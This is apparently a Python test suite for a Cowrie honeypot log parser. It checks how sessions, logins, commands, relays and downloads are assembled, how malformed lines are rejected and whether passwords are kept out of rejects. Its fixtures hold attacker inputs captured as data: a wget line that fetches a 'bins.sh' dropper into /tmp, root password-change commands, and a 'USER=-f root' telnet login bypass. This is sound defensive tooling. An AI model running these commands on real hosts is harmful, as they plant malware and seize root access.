"""Cowrie's log: both schemas, sessions put together, hostile lines, and the counts of 37 real days."""

from __future__ import annotations

import gzip
import json
from collections import Counter
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from noroshi.model.reject import Reject
from noroshi.observe.decoy import cowrie, visits
from noroshi.observe.decoy.cowrie import CowrieSensor
from noroshi.observe.jsonlines import Lines
from tests.observe.decoy.support import DATA, decoy_data, reading, rows

REAL = (DATA / "cowrie_2021.json").read_bytes()
NEW = (DATA / "cowrie_3x.json").read_bytes()


def log(*events: dict[str, Any]) -> bytes:
    """Lines of a log: `kind` without `cowrie.`, what is not given as in a usual line."""
    base = {
        "session": "s1",
        "src_ip": "192.0.2.1",
        "sensor": "d1",
        "timestamp": "2024-05-01T00:00:00.000000Z",
    }
    out = []
    for event in events:
        event = dict(event)
        kind = event.pop("kind")
        out.append(json.dumps({"eventid": f"cowrie.{kind}", **base, **event}))
    return ("\n".join(out) + "\n").encode()


CONNECT = {
    "kind": "session.connect", "src_port": 1025, "dst_ip": "198.51.100.1", "dst_port": 22, "protocol": "ssh",
}  # fmt: skip
CLOSED = {"kind": "session.closed", "duration": 1.5, "timestamp": "2024-05-01T00:00:02.000000Z"}


def test_sniff() -> None:
    sensor = CowrieSensor()
    assert sensor.sniff(REAL[:4096])
    assert sensor.sniff(NEW[:100])
    assert not sensor.sniff(b'{"eventid": "other.thing"}\n')
    assert not sensor.sniff(b"eventid cowrie.session.connect")


def test_a_real_log_of_2021() -> None:
    found, rejects = rows(CowrieSensor(), REAL)
    assert rejects == []
    assert {t: len(r) for t, r in found.items()} == {"sessions": 5, "logins": 3, "commands": 4, "relays": 1}
    whole = next(s for s in found["sessions"] if s["session_id"] == "e87d96155975")
    assert whole["client"] == "SSH-2.0-libssh-0.6.3"
    assert whole["hassh"] == "51cba57125523ce4b9db67714a90bf6e"
    assert (whole["login_count"], whole["login_success"], whole["command_count"]) == (1, False, 0)
    assert (whole["dst_ip"], whole["dst_port"]) == ("104.248.245.133", 2222), "its connect comes last here"
    assert (whole["protocol"], whole["service"]) == (6, "ssh")
    relay = found["relays"][0]
    assert (relay["src_ip"], relay["target"], relay["target_port"]) == ("5.188.87.53", "ya.ru", 80)
    assert relay["src_port"] == 0, "the port in that event is what the visitor claims"
    alone = next(s for s in found["sessions"] if s["session_id"] == "c618af4489f1")
    assert (alone["dst_ip"], alone["dst_port"]) == (None, 0), "the target is not the decoy"


def test_the_schema_of_3x() -> None:
    found, rejects = rows(CowrieSensor(), NEW)
    assert rejects == []
    session, telnet = sorted(found["sessions"], key=lambda s: s["first_seen"])
    key = "SHA256:ZkAslGjFiUHdGf/WUL8rQvkib4PTvQatUV0OUQSncCA"
    assert session["ssh_key"] == found["logins"][0]["ssh_key"] == key
    assert [(r["method"], r["password"], r["success"]) for r in found["logins"]] == [
        ("publickey", None, False), ("password", "admin", True),
    ]  # fmt: skip
    assert (session["login_count"], session["command_count"]) == (2, 3)
    assert str(session["last_seen"]) == "2026-08-21 10:01:02+00:00", "a late event counts"
    assert [(c["text"], c["success"]) for c in found["commands"]] == [
        ("cd /tmp; wget http://203.0.113.9/bins.sh; nosuch --all", False),
        ("root:Xy12", None), ("chpasswd root", None), ("USER=-f root", None),
    ]  # fmt: skip
    assert "url http://203.0.113.9/bins.sh" in found["commands"][0]["mentions"]
    assert found["commands"][3]["mentions"] == ["cve CVE-2026-24061"]
    assert [(t["direction"], t["url"], t["filename"], t["success"]) for t in found["transfers"]] == [
        ("upload", None, "/tmp/x.bin", True),
        ("download", "http://203.0.113.9/bins.sh", "/tmp/bins.sh", True),
    ]  # fmt: skip
    (relay,) = found["relays"]
    assert relay["ja4"] == "t13d1516h2_8daaf6152771_b186095e22b6"
    assert relay["data"] == "b'\\x16\\x03\\x01'"
    assert relay["target"] == "example.com"
    assert (telnet["src_ip"], telnet["service"], telnet["dst_port"]) == ("2001:db8::66", "telnet", 2223)


def test_offsets_lead_back_to_the_line() -> None:
    found, _ = rows(CowrieSensor(), NEW)
    for table, wanted in (("logins", b"cowrie.login."), ("commands", b"cowrie."), ("sessions", b"connect")):
        for row in found[table]:
            assert wanted in NEW[row["offset"] :].split(b"\n", 1)[0]


def test_a_session_without_beginning_or_end() -> None:
    found, _ = rows(CowrieSensor(), log({"kind": "login.failed", "username": "a", "password": "b"}))
    assert len(found["sessions"]) == len(found["logins"]) == 1
    (session,) = rows(CowrieSensor(), log(CLOSED))[0]["sessions"]
    assert str(session["first_seen"]) == "2024-05-01 00:00:00.500000+00:00", "its duration tells"
    (session,) = rows(CowrieSensor(), log({**CLOSED, "duration": "1.5"}))[0]["sessions"]
    assert str(session["first_seen"]) == "2024-05-01 00:00:00.500000+00:00", "as text in 2.5"


def test_an_id_used_twice_is_two_sessions() -> None:
    found, _ = rows(
        CowrieSensor(), log(CONNECT, CLOSED, {**CONNECT, "src_port": 7}, CLOSED, CONNECT, CONNECT)
    )
    assert sorted(s["src_port"] for s in found["sessions"]) == [7, 1025, 1025, 1025]
    other, _ = rows(CowrieSensor(), log(CONNECT, {**CONNECT, "sensor": "d2"}))
    assert len(other["sessions"]) == 2, "another decoy's sessions are others"


def test_events_out_of_order() -> None:
    late = {**CONNECT, "timestamp": "2024-05-01T00:00:00.000000Z"}
    early = {"kind": "client.version", "version": "SSH-2.0-x", "timestamp": "2024-05-01T00:00:01.000000Z"}
    (session,) = rows(CowrieSensor(), log(early, late, CLOSED))[0]["sessions"]
    assert (session["client"], session["src_port"]) == ("SSH-2.0-x", 1025)
    assert str(session["first_seen"]) == "2024-05-01 00:00:00+00:00"


def test_a_key_offered_to_an_old_cowrie_is_a_login() -> None:
    key = {
        "kind": "client.fingerprint",
        "username": "root",
        "fingerprint": "aa:" * 15 + "aa",
        "type": "ssh-rsa",
    }
    found, _ = rows(CowrieSensor(), log(CONNECT, key, key, CLOSED))
    assert [(r["method"], r["success"], r["ssh_key"]) for r in found["logins"]] == [
        ("publickey", False, "aa:" * 15 + "aa")
    ] * 2
    assert found["sessions"][0]["login_count"] == 2


def test_relays_wait_for_their_data() -> None:
    ask = {"kind": "direct-tcpip.request", "dst_ip": "example.org", "dst_port": 80, "src_port": 9}
    data = {"kind": "direct-tcpip.data", "dst_ip": "example.org", "dst_port": 80, "data": "'GET / HTTP/1.0'"}
    found, _ = rows(CowrieSensor(), log(CONNECT, ask, data, ask, data, data, *[ask] * 40))
    got = Counter(r["data"] for r in found["relays"])
    assert got == {"'GET / HTTP/1.0'": 3, None: 40}
    assert {r["src_port"] for r in found["relays"]} == {1025}


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ({**CONNECT, "timestamp": "yesterday"}, "time"),
        ({**CONNECT, "timestamp": "1970-01-01T00:00:00Z"}, "time"),
        ({**CONNECT, "timestamp": "2199-01-01T00:00:00Z"}, "time"),
        ({**CONNECT, "timestamp": "9" * 400}, "time"),
        ({**CONNECT, "timestamp": 5}, "json-shape"),
        ({**CONNECT, "src_ip": "fe80::1%eth0"}, "address"),
        ({**CONNECT, "src_ip": None}, "address"),
        ({**CONNECT, "src_ip": "1" * 100_000}, "address"),
        ({**CONNECT, "src_port": "many"}, "json-shape"),
        ({**CONNECT, "session": "s" * 5_000}, "session"),
        ({**CONNECT, "session": ["s"]}, "json-shape"),
    ],
)
def test_lines_that_cannot_be_are_rejected(line: dict[str, Any], reason: str) -> None:
    found, rejects = rows(CowrieSensor(), log(line))
    assert found == {}
    assert [r.reason for r in rejects] == [reason]


def test_odd_values_that_can_be() -> None:
    odd = {**CONNECT, "src_port": -5, "dst_port": 70_000, "dst_ip": "nowhere", "protocol": "x" * 9_999}
    login = {"kind": "login.failed", "username": 7, "password": 10**30}
    found, rejects = rows(CowrieSensor(), log(odd, login, {**CONNECT, "src_port": "22", "session": "s2"}))
    assert rejects == []
    first, second = sorted(found["sessions"], key=lambda s: s["session_id"])
    assert (first["src_port"], first["dst_port"], first["dst_ip"], len(first["service"])) == (
        0,
        0,
        None,
        1024,
    )
    assert second["src_port"] == 22
    assert (found["logins"][0]["username"], found["logins"][0]["password"]) == ("7", str(10**30))


def test_long_and_strange_texts() -> None:
    line = {"kind": "command.input", "input": "\x00\ud800é" + "A" * (3 << 20)}
    found, rejects = rows(CowrieSensor(), log(CONNECT, line, {"kind": "nothing.known"}))
    assert rejects == []
    assert len(found["commands"][0]["text"]) == 64 << 10
    nested = (
        b'{"eventid":"cowrie.x","timestamp":"2024-05-01T00:00:00Z","a":'
        + b"[" * 10_000
        + b"]" * 10_000
        + b"}\n"
    )
    found, rejects = rows(CowrieSensor(), nested + log(CONNECT))
    assert [r.reason for r in rejects] == ["json-depth"]
    assert len(found["sessions"]) == 1
    found, rejects = rows(CowrieSensor(), b'{"eventid":"' + b"x" * (17 << 20) + b"\n" + log(CONNECT))
    assert [r.reason for r in rejects] == ["line-length"]
    assert len(found["sessions"]) == 1


def test_no_password_in_rejects() -> None:
    lines = log({"kind": "login.success", "username": "root", "password": "hunter2", "src_port": "no"})
    broken = b'{"password": "hunter2", "eventid": "cowrie.login.failed"\n' + b'hunter2", "x": 1}\n'
    message = b'{"message": "login attempt [root/hunter2] failed", broken\n'
    _, rejects = rows(CowrieSensor(), lines + broken + message)
    assert len(rejects) == 4
    for reject in rejects:
        assert b"hunter2" not in reject.sample
        assert "hunter2" not in reject.detail


def test_open_sessions_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(visits.Visits.__init__, "__defaults__", (10, 5))
    events = [{**CONNECT, "session": f"s{i}"} for i in range(100)]
    found, _ = rows(CowrieSensor(), log(*events, *({**CLOSED, "session": f"s{i}"} for i in range(90, 100))))
    assert len(found["sessions"]) == 100
    assert len({s["offset"] for s in found["sessions"]}) == 100


def test_reading_in_blocks_changes_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    whole = rows(CowrieSensor(), NEW)
    monkeypatch.setattr(Lines.read, "__defaults__", (700,))
    assert rows(CowrieSensor(), NEW) == whole


@pytest.mark.parametrize("cut", [1, 100, 700, 3_000, 5_000])
def test_a_cut_log_and_its_continuation(cut: int) -> None:
    _, rejects = rows(CowrieSensor(), NEW[:cut])
    assert len(rejects) <= 1
    edge = NEW.index(b"\n", cut) + 1
    before, none = rows(CowrieSensor(), NEW[:edge])
    after, _ = rows(CowrieSensor(), NEW[edge:], start=edge)
    assert none == []
    together = {t: before.get(t, []) + after.get(t, []) for t in cowrie.COLUMNS}
    whole, _ = rows(CowrieSensor(), NEW)
    for table in ("logins", "transfers"):
        assert sorted(r["offset"] for r in together[table]) == sorted(r["offset"] for r in whole[table])


EVENTS = st.fixed_dictionaries(
    {"eventid": st.sampled_from(sorted(cowrie._HANDLERS)), "timestamp": st.just("2024-05-01T00:00:00Z")},
    optional={
        name: st.one_of(st.none(), st.text(max_size=9), st.integers(-9, 99_999), st.just("192.0.2.1"))
        for name in cowrie.Event.__struct_fields__
        if name not in ("eventid", "timestamp")
    },
)


@given(st.lists(EVENTS, max_size=12), st.binary(max_size=40))
def test_any_events_give_rows_or_rejects(events: list[dict[str, Any]], rubbish: bytes) -> None:
    data = b"\n".join([json.dumps(e).encode() for e in events] + [rubbish])
    rows(CowrieSensor(), data)


def test_37_real_days_beside_an_independent_count() -> None:
    """Counts and sums as json.loads gives them, file by file."""
    total: Counter[str] = Counter()
    sources: set[str] = set()
    for path in sorted(decoy_data("cowrie_sessions").glob("kareiva_*.json.gz")):
        data = gzip.decompress(path.read_bytes())
        events = [json.loads(line) for line in data.splitlines()]
        count = Counter(e["eventid"].removeprefix("cowrie.") for e in events)
        found, rejects = rows(CowrieSensor(), data)
        assert rejects == []
        got = {t: len(found.get(t, [])) for t in cowrie.COLUMNS}
        assert got["sessions"] == count["session.connect"] == len({e["session"] for e in events})
        assert got["logins"] == count["login.success"] + count["login.failed"]
        assert got["commands"] == count["command.input"]
        assert got["transfers"] == count["session.file_download"] + count["session.file_download.failed"]
        assert got["relays"] == count["direct-tcpip.request"]
        assert sum(r["data"] is not None for r in found.get("relays", [])) == count["direct-tcpip.data"]
        assert sum(s["login_count"] for s in found["sessions"]) == got["logins"]
        assert sum(s["command_count"] for s in found["sessions"]) == got["commands"]
        assert sum(r["success"] for r in found.get("logins", [])) == count["login.success"]
        assert sum(s["client"] is not None for s in found["sessions"]) == count["client.version"]
        assert all(s["dst_ip"] for s in found["sessions"])
        assert {s["src_ip"] for s in found["sessions"]} == {e["src_ip"] for e in events}
        sources |= {s["src_ip"] for s in found["sessions"]}
        total += count + Counter({"events": len(events), "sessions": got["sessions"]})
    assert (total["events"], total["sessions"], len(sources)) == (50_567, 11_768, 849)
    assert (total["login.success"], total["login.failed"]) == (954, 7_718)
    assert (total["direct-tcpip.request"], total["command.input"]) == (3_446, 217)
    assert total["session.file_download"] == 4


def test_rejects_are_rejects() -> None:
    assert all(isinstance(r, Reject) for r in CowrieSensor().read(reading(b"nonsense\n" * 3)))
